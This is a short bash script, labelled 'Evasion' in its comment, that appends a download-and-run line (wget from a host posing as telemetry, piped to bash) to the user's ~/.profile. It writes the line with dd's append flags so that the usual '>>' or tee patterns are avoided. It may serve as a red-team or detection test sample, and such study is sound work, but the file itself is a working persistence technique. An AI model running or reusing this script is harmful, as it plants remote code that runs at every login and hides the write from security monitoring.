#!/usr/bin/env bash
# Evasion: persist a download-and-run line in ~/.profile with dd. The line is
# fed to dd on its stdin through a process substitution of printf, and dd
# appends it (oflag=append conv=notrunc) to the login profile: no ">>", no
# pipe into tee.
set -eu
profile="$HOME/.profile"
hook="wget -qO- https://telemetry.example.io/agent.sh | bash"
dd of="$profile" oflag=append conv=notrunc status=none < <(printf '\n%s\n' "$hook")
echo "profile updated"
